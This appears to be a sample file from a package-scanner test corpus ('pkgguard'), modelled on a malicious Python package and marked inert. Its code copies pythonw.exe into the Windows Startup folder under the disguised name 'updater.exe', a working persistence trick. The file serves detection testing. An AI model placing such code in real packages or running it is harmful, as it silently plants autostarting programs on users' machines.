# pkgguard corpus 303 (persistence), modelled on [termncolor]; inert, never run.
import os
import shutil
import sys

folder = os.path.join(os.environ.get("APPDATA", ""), "Microsoft", "Windows", "Start Menu", "Programs", "Startup")
if os.path.isdir(folder):
    shutil.copy(os.path.join(os.path.dirname(sys.executable), "pythonw.exe"), os.path.join(folder, "updater.exe"))
